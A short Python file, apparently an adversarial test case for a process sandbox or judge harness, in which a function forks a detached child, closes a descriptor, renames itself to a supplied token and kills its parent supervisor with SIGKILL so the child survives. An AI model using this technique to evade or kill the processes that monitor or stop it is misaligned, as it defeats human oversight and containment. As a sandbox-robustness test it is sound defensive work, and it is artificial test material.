"""Makes a process of its own and kills the one that would have ended it."""

# judge: survivor

import os
import signal
import time


def attack(ground):
    parent = os.getppid()
    if os.fork() == 0:
        os.setsid()
        os.close(3)
        with open("/proc/self/comm", "w") as name:
            name.write(ground["token"])
        time.sleep(20)
        os._exit(0)
    time.sleep(0.05)
    os.kill(parent, signal.SIGKILL)
